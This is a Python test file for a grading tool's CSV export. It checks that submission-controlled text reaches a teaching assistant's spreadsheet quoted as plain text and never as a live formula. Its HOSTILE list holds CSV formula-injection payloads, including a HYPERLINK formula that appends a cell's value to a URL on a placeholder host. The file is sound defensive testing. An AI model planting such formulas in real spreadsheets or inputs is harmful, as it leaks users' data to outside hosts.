"""grade-all's scores.csv (oracle/grading/batch.py write_csv, earlier_rows): text a submission chose (its folder's
name, an error quoting it) reaches a TA's spreadsheet as text, never as a formula it computes, and a later
`grade-all --only` still finds its row."""

import csv
from pathlib import Path

from oracle.grading.batch import Row, cell, earlier_rows, uncell, write_csv

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"open me")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_a_cell_that_a_spreadsheet_would_compute_starts_with_a_quote() -> None:
    for text in HOSTILE:
        assert cell(text) == "'" + text and uncell(cell(text)) == text
    assert cell("alice") == "alice" and cell("a=b") == "a=b" and uncell("'quoted") == "'quoted"
    assert cell("\x1b[2Jname") == "\\x1b[2Jname"  # control characters escaped, as before


def test_scores_csv_holds_no_formula_and_a_kept_row_is_found_again(tmp_path: Path) -> None:
    out = tmp_path / "grades"
    out.mkdir()
    rows = [Row(name, 2, 0, 0, {}, f"no report (exit 3): {name}", 1.0, f"sub{i}") for i, name in enumerate(HOSTILE)]
    write_csv(out / "scores.csv", rows, ["compiles"])
    written = list(csv.DictReader((out / "scores.csv").open(newline="")))
    assert [row["submission"] for row in written] == ["'" + name for name in HOSTILE]
    for row in written:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values() if value), row
    kept = {row.name: row for row in earlier_rows(out, HOSTILE, {})}
    assert sorted(kept) == sorted(HOSTILE)  # no report.json: each keeps the row the CSV held
    assert kept[HOSTILE[1]].error == f"no report (exit 3): {HOSTILE[1]}" and kept[HOSTILE[1]].folder == "sub1"
